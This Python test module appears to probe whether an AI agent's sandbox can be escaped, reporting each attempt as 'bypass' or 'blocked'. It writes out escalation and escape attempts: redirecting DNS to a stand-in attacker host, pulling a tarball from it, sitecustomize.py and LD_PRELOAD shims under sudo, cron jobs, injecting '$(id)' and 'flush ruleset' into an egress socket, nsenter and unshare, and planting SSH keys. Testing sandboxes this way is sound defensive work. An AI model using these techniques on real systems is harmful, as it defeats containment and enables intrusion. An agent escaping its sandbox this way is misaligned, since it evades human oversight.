"""Rows that ask the system's daemons for things, and that look for other ways to be started."""

from __future__ import annotations

import contextlib
import grp
import json
import os
import re
import shutil
import socket
import stat
import sys
from pathlib import Path

from rows_root import by_root, command, marker
from tools import WORLD as W
from tools import Unsupported, Verdict, row, run, token, tried, worst

PRIVILEGED = {"root", "sudo", "adm", "wheel", "admin", "docker", "incus", "incus-admin", "lxd", "disk", "shadow", "systemd-journal"}


@row("N88", "after")
def ask_the_system() -> Verdict:
    """What a daemon does for a caller, it does with its own rights: the name that DHCP tells, the name servers, the clock's."""
    mark = token("N88")
    commands = [
        ["hostnamectl", "--no-ask-password", "set-hostname", mark],
        ["hostnamectl", "--no-ask-password", "--transient", "set-hostname", mark],
        ["timedatectl", "--no-ask-password", "set-ntp", "true"],
        ["timedatectl", "--no-ask-password", "set-timezone", "UTC"],
        ["resolvectl", "dns", "eth0", W["attacker"][0]],
        ["resolvectl", "domain", "eth0", "~."],
        ["resolvectl", "llmnr", "eth0", "yes"],
        ["networkctl", "renew", "eth0"],
        ["networkctl", "reconfigure", "eth0"],
        ["networkctl", "down", "eth0"],
        ["loginctl", "--no-ask-password", "enable-linger", "root"],
        ["systemctl", "--no-ask-password", "daemon-reload"],
        ["systemctl", "--no-ask-password", "set-environment", f"X={mark}"],
        ["systemctl", "--no-ask-password", "set-property", "ssh.service", "NoNewPrivileges=no"],
        ["machinectl", "--no-ask-password", "pull-tar", f"http://{W['attacker'][0]}/{mark}"],
    ]
    found: list[Verdict] = []
    for words in commands:
        if shutil.which(words[0]):
            code, text = run(*words, timeout=6)
            found.append(("blocked" if code else "bypass", f"{' '.join(words)}: {code} {text[:100]}"))
    return worst(found)


@row("P20")
def timers() -> Verdict:
    """Somebody else's daemon that starts what it is given, without what holds whoever logs in."""
    found: list[Verdict] = []
    line = f"* * * * * {command('P20')}\n"
    for words in (["crontab", "-"], ["at", "now"], ["batch"]):
        if shutil.which(words[0]):
            code, text = run(*words, stdin=line if words[0] == "crontab" else command("P20"))
            for unit in ("cron", "crond", "atd"):
                told = run("systemctl", "show", "-P", "NoNewPrivileges", unit)[1]
                if code == 0 and told == "no" and run("systemctl", "is-active", unit)[0] == 0:
                    found.append(("bypass", f"{words[0]} takes it, and {unit} starts it without NoNewPrivileges: {text}"))
            found.append(("blocked", f"{words}: {code} {text[:60]}"))
    if not found:
        raise Unsupported("neither cron nor at")
    return worst(found)


@row("P22", "root")
def shim() -> Verdict:
    """What stands in for sudo is a program like any other: what is put into it stays with us."""
    folder = marker("P22").parent / token("P22")
    folder.mkdir(exist_ok=True)
    (folder / "sitecustomize.py").write_text(f"import os; os.system({command('P22')!r})\n")
    (folder / "socket.py").write_text(f"import os; os.system({command('P22')!r})\n")
    env = {"PYTHONPATH": str(folder), "PYTHONSTARTUP": str(folder / "socket.py"), "LD_PRELOAD": "/nowhere.so"}
    env["PATH"] = f"{os.environ['PATH']}:{folder}"
    said = [run("sudo", "apt-get", "install", "-y", "px-hello", env=env)]
    said.append(run("sudo", "apt-get", "update", env={"http_proxy": f"http://{W['attacker'][0]}:4444", "APT_CONFIG": str(folder)}))
    found = marker("P22").read_text().split() if marker("P22").exists() else []
    verdict = "bypass" if "0" in found else "blocked"
    return verdict, f"ran as {sorted(set(found))}: {said}"[:500]


@row("P23")
def kernel_settings() -> Verdict:
    found: list[Verdict] = []
    for name in (
        "net/ipv4/ip_unprivileged_port_start", "net/ipv4/ping_group_range", "net/ipv4/ip_forward", "net/ipv4/conf/all/route_localnet",
        "kernel/core_pattern", "kernel/modprobe", "kernel/hostname", "kernel/yama/ptrace_scope", "vm/unprivileged_userfaultfd",
        "net/netfilter/nf_conntrack_helper", "kernel/io_uring_disabled",
    ):  # fmt: skip

        def attempt(path: str = f"/proc/sys/{name}") -> Verdict:
            with open(path, "r+", encoding="ascii") as stream:
                stream.write(stream.read())
            return "bypass", "it can be written"

        found.append(tried(name, attempt))
    return worst(found)


# What the daemons of the system offer to everybody. None of them does anything for the agent but the first two, by the rules of the policy.
KNOWN = re.compile(
    r"^/run/egress/(request|rules)\.sock$|^/run/dbus/system_bus_socket$|^/run/systemd/(journal/|notify$|userdb/|resolve/io\.systemd\.Resolve$"
    r"|netif/io\.systemd\.Network$|io\.system\.ManagedOOM$|io\.systemd\.)|^/run/user/1000/|^/dev/incus/sock$|^/run/uuidd"
)


@row("P24", "after")
def sockets_of_others() -> Verdict:
    found = []
    with open("/proc/net/unix", encoding="ascii", errors="replace") as stream:
        paths = {line.split()[-1] for line in stream if "/" in line.split()[-1]}
    for path in sorted(paths):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.stat(path).st_mode) and os.access(path, os.W_OK) and not KNOWN.search(path):
                found.append(path)
    abstract = sorted(line for line in paths if line.startswith("@"))
    return ("bypass" if found else "blocked"), f"{found or 'none that is not known'}; abstract: {abstract}"


@row("P25")
def rules_socket() -> Verdict:
    """It tells the rules, and takes nothing."""
    path = "/run/egress/rules.sock"
    if not os.path.exists(path):
        raise Unsupported("there is none")
    answers = []
    for text in ("", "flush ruleset\n", "; add table inet px25\n", "$(id)\n" * 1000):
        with socket.socket(socket.AF_UNIX) as there:
            there.settimeout(5)
            there.connect(path)
            data = b""
            with contextlib.suppress(OSError):
                there.sendall(text.encode())
                there.shutdown(socket.SHUT_WR)
            with contextlib.suppress(OSError):
                while piece := there.recv(65536):
                    data += piece
        answers.append(data)
    told = b"table inet egress" in answers[0]
    changed = b"px25" in answers[-1] or b"table inet egress" not in answers[-1]
    return ("bypass" if changed else "blocked"), f"told: {told}; last answer: {answers[-1][:80]!r}"


@row("P28")
def other_numbers() -> Verdict:
    said = []
    for words in (
        ["setpriv", "--reuid=0", "--regid=0", "--clear-groups"],
        ["newuidmap", str(os.getpid()), "0", "0", "1"],
        ["capsh", "--user=root", "--", "-c"],
        ["chroot", "/"],
        ["nsenter", "-t", "1", "-a"],
        ["unshare", "-Ur", "nsenter", "-t", "1", "-n"],
    ):
        said.append(run(*words, "/bin/sh", "-c", command("P28")))
    return by_root("P28", [f"{code} {text[:60]}" for code, text in said])


@row("P29")
def privileged_groups() -> Verdict:
    names = set()
    for number in os.getgroups():
        with contextlib.suppress(KeyError):
            names.add(grp.getgrgid(number).gr_name)
    found = sorted(names & PRIVILEGED)
    return ("bypass" if found else "blocked"), f"{sorted(names)}"


LOCAL_SSH = "/run/ssh-unix-local/socket"


def user_name() -> str:
    return os.environ.get("USER", "pixel")


@row("P30", "after")
def log_in_again() -> Verdict:
    """A login of one's own is held like the first."""
    home = Path.home()
    key = home / ".ssh" / token("P30")
    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key))
    keys = home / ".ssh" / "authorized_keys"
    before = keys.read_text()
    options = ["-F", "none", "-i", str(key), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes"]
    found = []
    try:
        with contextlib.suppress(OSError):
            keys.write_text(before + key.with_suffix(".pub").read_text())
        asked = "grep NoNewPrivs /proc/self/status; id -u"
        for user in (user_name(), "root"):
            code, text = run("ssh", *options, "-o", "LogLevel=ERROR", f"{user}@127.0.0.1", asked, timeout=10)
            free = code == 0 and (re.search(r"NoNewPrivs:\s+0", text) or user == "root")
            found.append(("bypass" if free else "blocked", f"{user}: {code} {text[:100]}"))
        # Where systemd has made a socket for it, past the network and what holds those who come from there.
        relay = f"ProxyCommand={sys.executable} {sys.argv[0]} child '{json.dumps(['relay', LOCAL_SSH])}'"
        code, text = run("ssh", *options, "-o", "LogLevel=ERROR", "-o", relay, f"{user_name()}@local", asked, timeout=10)
        found.append(("bypass" if code == 0 and re.search(r"NoNewPrivs:\s+0", text) else "blocked", f"{LOCAL_SSH}: {code} {text[-100:]}"))
    finally:
        with contextlib.suppress(OSError):
            keys.write_text(before)
    return worst(found)


@row("P31")
def policy_files() -> Verdict:
    """What the policy consists of can be read, but for what only root needs."""
    found = []
    for path in ("/etc/egress/previous.json",):
        with contextlib.suppress(OSError):
            found.append((path, Path(path).read_text()[:80]))
    return ("bypass" if found else "blocked"), str(found or "not readable")
